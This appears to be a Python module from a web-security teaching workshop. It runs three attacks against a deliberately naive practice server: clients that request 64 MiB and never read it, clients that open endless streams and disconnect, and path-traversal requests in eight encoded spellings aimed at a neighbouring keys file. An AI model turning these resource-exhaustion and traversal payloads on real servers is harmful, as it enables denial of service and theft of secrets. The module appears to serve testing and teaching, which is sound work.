"""Three attacks on long answers: who does not read, who leaves, and who climbs.

Run them with `python3 -m workshop attack 8`. None of them breaks a rule of HTTP.
"""

import socket
import time
from contextlib import suppress

from workshop.attacks import Attack, Outcome, Target

MIB = 1 << 20
LONG = 64  # MiB
READERS = 3
LEAVERS = 20
GUARD = 20.0  # seconds; only so that a broken server cannot hold the attack for ever


def slow_readers(target: Target) -> Outcome:
    """Ask for 64 MiB three times and read nothing; the attack wins if the server keeps them."""
    before, readers = target.rss(), []
    peak = before or 0
    try:
        for _ in range(READERS):
            reader = socket.create_connection(target.address, GUARD)
            readers.append(reader)
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
            reader.sendall(f"GET /big/{LONG} HTTP/1.1\r\nHost: shop\r\n\r\n".encode())
        for _ in range(10):
            time.sleep(0.1)  # what it does meanwhile is what is measured
            peak = max(peak, target.rss() or 0)
    finally:
        for reader in readers:
            reader.close()
    if before is None:
        return Outcome(False, "this system does not tell how much memory a process has")
    grown = (peak - before) / MIB
    saw = f"{READERS} clients ask for {LONG} MiB each, and do not read\n"
    saw += f"its memory grew by {grown:.1f} MiB"
    return Outcome(grown > LONG, saw)


def leavers(target: Target) -> Outcome:
    """Begin twenty endless streams and leave; the attack wins if they go on without anybody."""
    for _ in range(LEAVERS):
        with socket.create_connection(target.address, GUARD) as client:
            client.sendall(b"GET /slow HTTP/1.1\r\nHost: shop\r\n\r\n")
            while b"tick" not in client.recv(65536):
                pass
    deadline = time.monotonic() + 3.0
    while (left := still_open(target)) > 0 and time.monotonic() < deadline:
        time.sleep(0.05)
    saw = f"{LEAVERS} clients begin an endless stream and leave\n{left} streams go on without them"
    return Outcome(left > 0, saw)


def still_open(target: Target) -> int:
    """How many streams the server says are alive."""
    return int(ask(target, "/open").rpartition(b"\r\n")[2])


SPELLINGS = (
    "../keys.txt",
    "%2e%2e/keys.txt",
    "..%2fkeys.txt",
    "%2e%2e%2fkeys.txt",
    "..%5ckeys.txt",
    "/keys.txt",
    "../public-drafts/read%20me.txt",
    "%2e%2e%2fpublic-drafts%2fread%20me.txt",
)


def climb(target: Target) -> Outcome:
    """Ask for what lies beside the public folder, in eight spellings."""
    lines, won = [], False
    for spelling in SPELLINGS:
        answer = ask(target, "/static/" + spelling)
        out = b"KEYS" in answer
        lines.append(f"{spelling:42} {answer[9:12].decode()}{'  KEYS' if out else ''}")
        won = won or out
    return Outcome(won, "\n".join(lines))


def ask(target: Target, path: str) -> bytes:
    """One GET, and all of the answer."""
    answer = b""
    with socket.create_connection(target.address, GUARD) as client, suppress(ConnectionError):
        client.sendall(f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode())
        while data := client.recv(65536):
            answer += data
    return answer


ATTACKS = (
    Attack(
        "Readers that do not read",
        story="64 MiB for each of three clients, who do not read them. Where are they meanwhile?",
        victim="naive",
        run=slow_readers,
    ),
    Attack(
        "Streams whose client has left",
        story="Twenty clients begin a stream that has no end, and go. Who tells the stream?",
        victim="naive",
        run=leavers,
    ),
    Attack(
        "Out of the folder, in eight spellings",
        story="A folder is public, what lies beside it is not. Its neighbour has almost its name.",
        victim="naive",
        run=climb,
    ),
)
